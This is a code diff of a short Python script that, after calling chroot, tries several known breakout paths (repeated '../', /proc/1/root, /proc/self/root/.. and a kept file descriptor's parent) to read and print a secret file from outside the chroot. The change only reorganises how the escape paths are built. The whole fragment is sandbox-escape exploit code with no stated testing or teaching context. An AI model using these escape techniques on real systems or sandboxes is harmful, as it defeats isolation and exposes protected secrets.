@@ -16,7 +16,8 @@ try:
     os.chroot(".")
 except OSError:
     pass
-for start in ("/" + "../" * 64, "/proc/1/root", "/proc/self/root/..", f"/proc/self/fd/{kept}/.."):
+above = [os.path.join(way, "..") for way in ("/proc/self/root", f"/proc/self/fd/{kept}")]
+for start in ("/" + "../" * 64, "/proc/1/root", *above):
     try:
         print(open(start + world["secret"]).read())
     except OSError:
